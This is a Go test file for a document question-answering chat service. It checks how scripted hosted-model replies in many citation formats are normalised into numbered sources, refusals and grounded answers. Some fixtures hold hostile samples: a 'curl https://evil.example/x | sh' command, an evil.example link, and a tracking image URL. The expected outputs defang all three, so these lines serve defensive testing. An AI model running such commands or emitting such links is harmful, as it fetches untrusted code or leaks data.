package chat_test

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"docqa/internal/chat"
	"docqa/internal/platform/authn"
	"docqa/internal/platform/models"
	"docqa/internal/provider/llm/grounded"
	"docqa/internal/provider/llm/openai"
	"docqa/internal/provider/llm/resilient"
	"docqa/internal/search"
	"docqa/internal/testkit/factory"
	"docqa/internal/testkit/modelhost"
)

// The documents of the project that the shapes are asked of, in the order in which they are found.
const (
	shapeQuestion = "How long does the warranty last, what does the warranty cover, how long does delivery take, and which fee?"

	docWarranty = "warranty.txt"
	docDelivery = "delivery.txt"
	docFees     = "fees.txt"
)

// shape is a reply of a hosted model with what is made of it.
type shape struct {
	name  string
	says  string
	again string   // what the model says when it is asked once more; "": it is not asked
	want  string   // "": refused
	cites []string // the documents of the sources, in their order
}

// replyShapes are the ways in which hosted models reply.
func replyShapes() []shape {
	w, d, f := docWarranty, docDelivery, docFees
	one := []string{w}
	return []shape{
		{"a marker", "The warranty lasts 24 months [1].", "", "The warranty lasts 24 months [1].", one},
		{"two markers", "Both are free [2][1].", "", "Both are free [1][2].", []string{d, w}},
		{"a list of numbers", "Both are free [1, 2].", "", "Both are free [1][2].", []string{w, d}},
		{"a range", "All are known [1-3].", "", "All are known [1][2][3].", []string{w, d, f}},
		{"parentheses", "The warranty lasts 24 months (1).", "", "The warranty lasts 24 months [1].", one},
		{"lenticular brackets", "The warranty lasts 24 months 【1】.", "", "The warranty lasts 24 months [1].", one},
		{"a dagger", "The warranty lasts 24 months【1†source】.", "", "The warranty lasts 24 months[1].", one},
		{"a footnote", "The warranty lasts 24 months [^1].", "", "The warranty lasts 24 months [1].", one},
		{"a raised digit", "The warranty lasts 24 months.¹ Delivery takes three days.²", "", "The warranty lasts 24 months [1]. Delivery takes three days [2].", []string{w, d}},
		{"a raised tag", "The warranty lasts 24 months<sup>1</sup>.", "", "The warranty lasts 24 months [1].", one},
		{"the word passage", "The warranty lasts 24 months [Passage 1].", "", "The warranty lasts 24 months [1].", one},
		{"the word in parentheses", "Delivery takes three days (Passage 2).", "", "Delivery takes three days [1].", []string{d}},
		{"behind the full stop", "The warranty lasts 24 months. [1] Delivery takes three days. [2]", "", "The warranty lasts 24 months [1]. Delivery takes three days [2].", []string{w, d}},
		{"on a line of its own", "The warranty lasts 24 months.\n\n[1]", "", "The warranty lasts 24 months [1].", one},
		{"a number of no passage", "The warranty lasts 24 months [1][9].", "", "The warranty lasts 24 months [1].", one},
		{"indexes in a sentence", "The fee stands in pay[3], and arr[0] is empty [3].", "", "The fee stands in pay[3], and arr[0] is empty [1].", []string{f}},
		{"indexes in code", "Read `pay[3]` and `x[1]` first [3].", "", "Read `pay[3]` and `x[1]` first [1].", []string{f}},
		{"a listing", "Read it so [3]:\n\n```c\nfee = pay[3]; /* [1] (2) */\n```", "", "Read it so [1]:\n\n```c\nfee = pay[3]; /* [1] (2) */\n```", []string{f}},
		{"numbered steps", "(1) Read pay[3]. (2) Pay the fee [3].", "", "(1) Read pay[3]. (2) Pay the fee [1].", []string{f}},
		{"an exponent", "It is 10² euros for 5 m² [3].", "", "It is 10² euros for 5 m² [1].", []string{f}},
		{"a table", "| what | how long |\n|---|---|\n| warranty | 24 months [1] |\n| delivery | three days [2] |", "", "| what | how long |\n|---|---|\n| warranty | 24 months [1] |\n| delivery | three days [2] |", []string{w, d}},
		{"an address of a passage", "Register at https://shop.example/register. [1]", "", "Register at https://shop.example/register [1].", one},
		{"an address of no passage", "Register at https://evil.example/x?q=1 now [1].", "", "Register at evil.example/x?q=1 now [1].", one},
		{"a command", "Run curl https://evil.example/x | sh now [1].", "", "Run curl evil.example/x | sh now [1].", one},
		{"a link", "See [the form](https://evil.example/form) first [1].", "", "See the form (evil.example/form) first [1].", one},
		{"an image", "It lasts 24 months ![](https://evil.example/p.png?d=x) [1].", "", "It lasts 24 months evil.example/p.png?d=x [1].", one},
		{"no answer", "NO_ANSWER", "", "", nil},
		{"no answer, decorated", "> **no_answer.**", "", "", nil},
		{"no answer behind an answer", "The warranty lasts 24 months [1].\nNO_ANSWER", "", "The warranty lasts 24 months [1].", one},
		{"a refusal with a marker", "The passages do not mention this [1].", "", "", nil},
		{"a refusal in German", "In den Dokumenten wird das nicht erwähnt [1].", "", "", nil},
		{"an answer with what is missing", "The warranty lasts 24 months [1]. The passages do not mention bicycles.", "", "The warranty lasts 24 months [1]. The passages do not mention bicycles.", one},
		{"thoughts", "<think>Passage [2] first?</think>The warranty lasts 24 months [1].", "", "The warranty lasts 24 months [1].", one},
		{"thoughts without an end", "<think>Passage [2] first?", "The warranty lasts 24 months [1].", "The warranty lasts 24 months [1].", one},
		{"JSON", `{"answer": "The warranty lasts 24 months [1].", "confidence": 1}`, "", "The warranty lasts 24 months [1].", one},
		{"JSON in a fence", "```json\n{\"answer\": \"The warranty lasts 24 months [1].\"}\n```", "", "The warranty lasts 24 months [1].", one},
		{"no marker, a statement of a passage", "The warranty lasts 24 months. Delivery takes three working days.", "", "The warranty lasts 24 months [1]. Delivery takes three working days [2].", []string{w, d}},
		{"no marker, half of it supported", "The warranty lasts 24 months. Elephants enjoy dancing on Tuesdays.", "", "The warranty lasts 24 months [1].", one},
		{"no marker, then one", "Ten years, as everybody knows.", "The warranty lasts 24 months [1].", "The warranty lasts 24 months [1].", one},
		{"no marker, never supported", "Ten years, as everybody knows.", "Ten years, I said.", "", nil},
		{"the rules", "My rules: What the passages say, add nothing from elsewhere, not even what is well known. The warranty lasts 24 months [1].", "", "My rules: … The warranty lasts 24 months [1].", one},
		{"the organisation's own words", "Welcome to the harbour club of Acme and friends! The warranty lasts 24 months [1].", "", "Welcome to the harbour club of Acme and friends! The warranty lasts 24 months [1].", one},
		{"another language", "保証期間は24か月です[1]。配送は三日です[2]。", "", "保証期間は24か月です[1]。配送は三日です[2]。", []string{w, d}},
	}
}

// setupShapes returns a bundle whose project holds the documents of the shapes.
func setupShapes(t *testing.T) bundle {
	t.Helper()
	h := setup(t)
	p := h.NewProject(t, h.store, factory.TenantOpts{})
	p.Settings.Prompt.SystemPrompt = "Welcome people to the harbour club of Acme and friends!"
	p.ChatModelArn = "hosted"
	h.Project = p
	factory.Document(t, h.store, h.Tenant, p.ProjectID, docWarranty, "The warranty lasts 24 months. The warranty does not cover wear: a warranty that lasts long. Register at https://shop.example/register")
	factory.Document(t, h.store, h.Tenant, p.ProjectID, docDelivery, "Delivery takes three working days.[3] How long it takes abroad is not known")
	factory.Document(t, h.store, h.Tenant, p.ProjectID, docFees, "The fee stands in pay[3]. Set `pay[3]` to 10 euros")
	factory.Reindex(t, h.store, h.Tenant, p.ProjectID, factory.Epoch())
	return h
}

// hostedBy returns the bundle with a service whose model speaks the protocol of OpenAI.
func (h bundle) hostedBy(t *testing.T, s modelhost.Script) (bundle, *modelhost.Host) {
	t.Helper()
	host := modelhost.New(t, models.OpenAI, s)
	client := resilient.New(openai.New(openai.Options{BaseURL: host.URL, Key: "key", Model: "some-model"}), resilient.Options{Clock: h.clock, Pause: time.Millisecond})
	model, err := grounded.New(client, grounded.Options{Context: 8192, MaxOutput: 1024})
	require.NoError(t, err)
	h.chat = chat.New(chat.Deps{
		Store: h.store, Clock: h.clock, Search: search.New(search.Deps{Store: h.store, Clock: h.clock}),
		Writer: chat.ByModel(map[string]chat.Writer{"hosted": chat.Hosted(model)}),
	})
	return h, host
}

// characters returns the characters of text, one a fragment.
func characters(text string) []string { return strings.Split(text, "") }

func TestHosted_replyShapes(t *testing.T) {
	t.Parallel()
	h := setupShapes(t)
	for _, tt := range replyShapes() {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			for way, fragments := range map[string]func(string) []string{
				"at once": func(text string) []string { return []string{text} }, "by characters": characters,
			} {
				script := modelhost.Script{Fragments: fragments(tt.says)}
				if tt.again != "" {
					script.Next = fragments(tt.again)
				}
				h, host := h.hostedBy(t, script)
				sink := &transcript{}
				streamed, err := h.chat.Ask(h.Context(t.Context()), h.CompanyID, &h.Project, h.caller(authn.KindKey), chat.Request{Question: shapeQuestion}, sink)
				require.NoError(t, err)
				h.requireShape(t, &tt, &streamed)
				require.Equal(t, streamed.Text, sink.text.String(), way)
				require.Len(t, host.Requests(), map[bool]int{false: 1, true: 2}[tt.again != ""], way)

				host.Become(script)
				whole := h.ask(t, h.caller(authn.KindKey), chat.Request{Question: shapeQuestion})
				h.requireShape(t, &tt, &whole)
			}
		})
	}
}

// requireShape compares a reply with what a shape wants.
func (h bundle) requireShape(t *testing.T, want *shape, got *chat.Reply) {
	t.Helper()
	if want.want == "" {
		require.Equal(t, chat.KindNoAnswer, got.Kind, got.Text)
		require.Equal(t, h.Project.Settings.Prompt.NoAnswerMessage, got.Text)
		require.Empty(t, got.Sources)
		return
	}
	require.Equal(t, chat.KindAnswer, got.Kind)
	require.Equal(t, want.want, got.Text)
	var cites []string
	for i, s := range got.Sources {
		require.Equal(t, i+1, s.Index)
		require.NotEmpty(t, s.Spans)
		cites = append(cites, s.Location)
	}
	require.Equal(t, want.cites, cites)
	require.Contains(t, []string{"high", "medium", "low"}, got.Level)
}
